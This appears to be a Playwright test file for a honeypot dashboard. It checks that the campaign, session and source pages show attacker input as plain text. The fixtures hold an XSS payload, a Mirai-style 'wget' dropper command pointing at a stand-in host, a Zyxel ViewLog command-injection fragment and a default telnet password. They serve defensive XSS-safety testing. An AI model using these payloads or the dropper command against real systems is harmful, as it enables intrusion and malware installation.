// The dashboard's intel and responder views in Debian's chromium (playwright-core), over a real SQLite store
// fed through the bus as the responders, intel and the campaign tracker emit: the Campaigns page (new and
// spiking signatures, sparklines, the example as text, the link to the signature's sessions), a session whose
// credentials, commands, HTTP requests and IOCs carry script and quotes shown literally, the tag filter of the
// session browser, the source page's tags and IOCs, and campaign events arriving in the live views. No page
// logs a console error, none loads anything from another host, nothing the attacker sent runs.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import type { CampaignEvent, SessionEvent } from '../../src/core/events.js';
import { CHROMIUM_FLAGS as FLAGS, watchPage } from '../helpers/chromium.js';
import { eventually, REPO } from '../helpers/sensor.js';
import { session, startFixture, type WebFixture } from './web-fixture.js';

const ARTIFACTS = join(REPO, 'test-artifacts');
/** Markup and quotes that would run or break out of an attribute if a page ever used innerHTML. */
const EVIL = `<script>window.__pwned=1</script>"'><img src=x onerror="window.__pwned=2">`;
const MIRAI_SIG = 'telnet:/bin/busybox #';
const EXPLOIT_SIG = 'POST /cgi-bin/ViewLog.asp [remote_host]';
const DROPPER = `http://198.18.0.9/bins.sh?x="${EVIL}`;

function telnetSession(): SessionEvent {
  return session({
    src: '198.18.5.5',
    dport: 23,
    data: Buffer.from('root\r\nxc3511\r\nenable\r\n'),
    persona: 'telnet',
    sent: [
      { index: 0, timestamp: new Date().toISOString(), data: Buffer.from('login: ').toString('base64') },
    ],
    credentials: [
      { username: 'root', password: EVIL },
      { username: `admin"'<b>`, password: 'xc3511' },
    ],
    commands: ['enable', 'sh', `/bin/busybox ${EVIL}`, `wget ${DROPPER}`],
    app: 'telnet',
    tags: [
      { name: 'mirai', confidence: 1 },
      { name: `x"<i>`, confidence: 1 },
    ],
    cves: ['CVE-2016-10401'],
    rules: ['tw-mirai-busybox'],
    iocs: { urls: [DROPPER], hosts: ['198.18.0.9'] },
    signature: { template: MIRAI_SIG, sha256: 'ab'.repeat(32) },
  });
}

function httpSession(): SessionEvent {
  return session({
    src: '198.18.5.6',
    dport: 8080,
    data: Buffer.from('POST /cgi-bin/ViewLog.asp HTTP/1.1\r\nHost: x\r\n\r\nremote_host=;wget'),
    app: 'http',
    http: [{ method: 'POST', path: `/cgi-bin/ViewLog.asp?${EVIL}`, host: 'x' }],
    tags: [{ name: 'zyxel', confidence: 1 }],
    cves: ['CVE-2017-18368'],
    rules: ['tw-zyxel-viewlog'],
    signature: { template: EXPLOIT_SIG, sha256: 'cd'.repeat(32) },
  });
}

function campaign(
  kind: CampaignEvent['kind'],
  signature: string,
  over: Partial<CampaignEvent> = {},
): CampaignEvent {
  const now = Date.now();
  return {
    type: 'campaign',
    ts: new Date(now).toISOString(),
    sensor: 'test',
    kind,
    signature,
    app: 'http',
    example: `POST /cgi-bin/ViewLog.asp?${EVIL}`,
    tags: ['zyxel'],
    cves: ['CVE-2017-18368'],
    sources: 12,
    interval_s: 60,
    baseline: { mean: 0.5, sd: 0.7 },
    first_seen: new Date(now - 120_000).toISOString(),
    ports: [8080],
    series: [0, 1, 0, 2, 12],
    ...over,
  };
}

describe('dashboard: campaigns, responder and intel records in chromium', () => {
  let f: WebFixture;
  let browser: Browser;
  let telnetId = 0;

  before(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    f = await startFixture();
    f.ctx.bus.emit(session({ src: '198.18.5.7', dport: 8080 }));
    f.ctx.bus.emit(telnetSession());
    f.ctx.bus.emit(httpSession());
    f.ctx.bus.emit(campaign('new', EXPLOIT_SIG));
    f.ctx.bus.emit(
      campaign('spike', MIRAI_SIG, {
        app: 'telnet',
        tags: ['mirai'],
        cves: [],
        example: `sh\n${EVIL}`,
        ports: [23],
      }),
    );
    const found = await eventually(async () => {
      const c = await f.json<{ total: number }>('/api/campaigns');
      const s = await f.json<{ rows: { id: number }[] }>('/api/sessions?tag=mirai');
      return c.total === 2 && s.rows.length === 1 ? s.rows[0] : undefined;
    }, 5000);
    assert.ok(found, 'the store did not record the sessions and campaigns');
    telnetId = found.id;
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: FLAGS });
  });

  after(async () => {
    await browser?.close().catch(() => {});
    await f?.close();
  });

  async function open(path: string) {
    const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await ctx.newPage();
    const w = watchPage(page);
    const res = await page.goto(f.base + path, { waitUntil: 'networkidle' });
    assert.equal(res?.status(), 200, path);
    const done = async (name: string) => {
      await page.screenshot({ path: join(ARTIFACTS, `web-${name}.png`), fullPage: true });
      assert.equal(await page.evaluate('window.__pwned'), undefined, `script ran on ${path}`);
      assert.equal(
        await page.locator('main script, main img').count(),
        0,
        `markup from the store on ${path}`,
      );
      assert.deepEqual(w.errors, [], `console errors on ${path}`);
      assert.deepEqual(w.foreign, [], `requests leaving 127.0.0.1 on ${path}`);
      await ctx.close();
    };
    return { page, done };
  }

  const text = async (page: Page, sel: string) => (await page.textContent(sel)) ?? '';

  test('Campaigns page: new and spiking signatures, sparklines, example as text, link to the sessions', async () => {
    const { page, done } = await open('/campaigns');
    await page.waitForSelector('#new table');
    assert.ok((await text(page, '#new')).includes(EXPLOIT_SIG));
    assert.ok((await text(page, '#spiking')).includes(MIRAI_SIG));
    assert.match(await text(page, '#new'), /CVE-2017-18368/);
    assert.equal(await page.locator('#new svg.spark polyline').count(), 1);
    assert.equal(await page.locator('#spiking svg.spark polyline').count(), 1);
    // The newest campaign is shown; its example is the attacker's text, literally.
    await page.waitForSelector('#example');
    assert.equal(await text(page, '#example'), `POST /cgi-bin/ViewLog.asp?${EVIL}`);
    await page.screenshot({ path: join(ARTIFACTS, 'web-campaigns-page.png'), fullPage: true });
    await page.click('#spiking tr.clickable');
    assert.equal(await text(page, '#signature'), MIRAI_SIG);
    assert.equal(await text(page, '#example'), `sh\n${EVIL}`);
    // The signature's sessions: the session browser filtered by signature=.
    await Promise.all([
      page.waitForURL(/\/sessions\?signature=/),
      page.click('text=sessions with this signature'),
    ]);
    await page.waitForSelector('#results table');
    assert.equal(await page.locator('#results tr.clickable').count(), 1);
    assert.equal(await page.inputValue('input[name=signature]'), MIRAI_SIG);
    assert.match(await text(page, '#results'), /198\.18\.5\.5/);
    await done('campaigns');
  });

  test('session page: credentials, commands, HTTP and IOCs with script and quotes shown literally', async () => {
    const { page, done } = await open(`/sessions?id=${telnetId}`);
    await page.waitForSelector('#credentials');
    assert.equal(await text(page, '#credentials'), `root  password ${EVIL}\nadmin"'<b>  password xc3511`);
    assert.equal(await text(page, '#commands'), `enable\nsh\n/bin/busybox ${EVIL}\nwget ${DROPPER}`);
    assert.equal(await text(page, '#sent-ascii'), 'login: ');
    assert.equal(await text(page, '#iocs'), `url  ${DROPPER}\nhost 198.18.0.9`);
    assert.equal(await text(page, '#cves'), 'CVE-2016-10401');
    assert.equal(await text(page, '#rules'), 'tw-mirai-busybox');
    const detail = await text(page, '#detail');
    assert.match(detail, /Responder: telnet/);
    assert.ok(detail.includes(MIRAI_SIG));
    // IOCs are never links; tags link only to this origin's session browser.
    const hrefs = await page.locator('#detail a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    for (const h of hrefs) assert.ok(h?.startsWith('/') && !h.startsWith('//'), `link ${h}`);
    assert.ok(!hrefs.some((h) => h?.includes('198.18.0.9')), 'an IOC became a link');
    assert.ok(hrefs.includes(`/sessions?${new URLSearchParams({ tag: `x"<i>` })}`), hrefs.join(' '));
    assert.equal(await page.locator('#detail b, #detail i').count(), 0);
    await done('session-responder');
  });

  test('session page without a responder: intel HTTP requests as text', async () => {
    const id = (await f.json<{ rows: { id: number }[] }>('/api/sessions?tag=zyxel')).rows[0]!.id;
    const { page, done } = await open(`/sessions?id=${id}`);
    await page.waitForSelector('#http');
    assert.equal(await text(page, '#http'), `POST /cgi-bin/ViewLog.asp?${EVIL}  host x`);
    await done('session-intel');
  });

  test('session browser: the tag filter, typed into the form and followed from a tag', async () => {
    const { page, done } = await open('/sessions');
    await page.waitForSelector('#results table');
    assert.equal(await page.locator('#results tr.clickable').count(), 3);
    await page.fill('input[name=tag]', 'mirai');
    await Promise.all([page.waitForURL(/tag=mirai/), page.click('button[type=submit]')]);
    await page.waitForSelector('#results table');
    assert.equal(await page.locator('#results tr.clickable').count(), 1);
    assert.match(await text(page, '#pageinfo'), /of 1\b/);
    await page.click('#results tr.clickable');
    await page.waitForSelector('#detail a.tag');
    await Promise.all([
      page.waitForURL(/tag=x/),
      page.locator('#detail a.tag', { hasText: 'x"<i>' }).click(),
    ]);
    await page.waitForSelector('#results table');
    assert.equal(await page.locator('#results tr.clickable').count(), 1);
    assert.equal(await page.inputValue('input[name=tag]'), `x"<i>`);
    await done('sessions-tag');
  });

  test('source page: the tag union of its sessions and the IOCs it sent', async () => {
    const { page, done } = await open('/source?ip=198.18.5.5');
    await page.waitForSelector('#iocs table');
    assert.ok((await text(page, '#iocs')).includes(DROPPER));
    assert.equal(await page.locator('#iocs a').count(), 0);
    const tags = await text(page, '#info');
    assert.ok(tags.includes('mirai') && tags.includes(`x"<i>`), tags);
    await done('source-intel');
  });

  test('live: a campaign event reaches the overview and the Campaigns page', async () => {
    const live = await open('/');
    const camp = await open('/campaigns');
    await live.page.waitForSelector('#live-state .live-dot.on');
    await camp.page.waitForSelector('#live-state .live-dot.on');
    const sig = 'GET /live-<b>/{num} [q]';
    f.ctx.bus.emit(campaign('new', sig, { example: `GET /live-<b>/1?q=${EVIL}` }));
    f.ctx.bus.emit(telnetSession());
    const shown = (page: Page, sel: string, s: string) =>
      eventually(async () => (await text(page, sel)).includes(s), 10_000, 200);
    assert.ok(await shown(live.page, '#live-campaigns', sig), 'the campaign did not reach the overview');
    assert.ok(await shown(live.page, '#live', 'mirai'), 'the live session has no tags');
    assert.ok(await shown(camp.page, '#new', sig), 'the campaign did not reach the Campaigns page');
    assert.equal(await live.page.locator('#live-campaigns svg.spark').count(), 1);
    await live.done('overview-live-campaign');
    await camp.done('campaigns-live');
  });
});
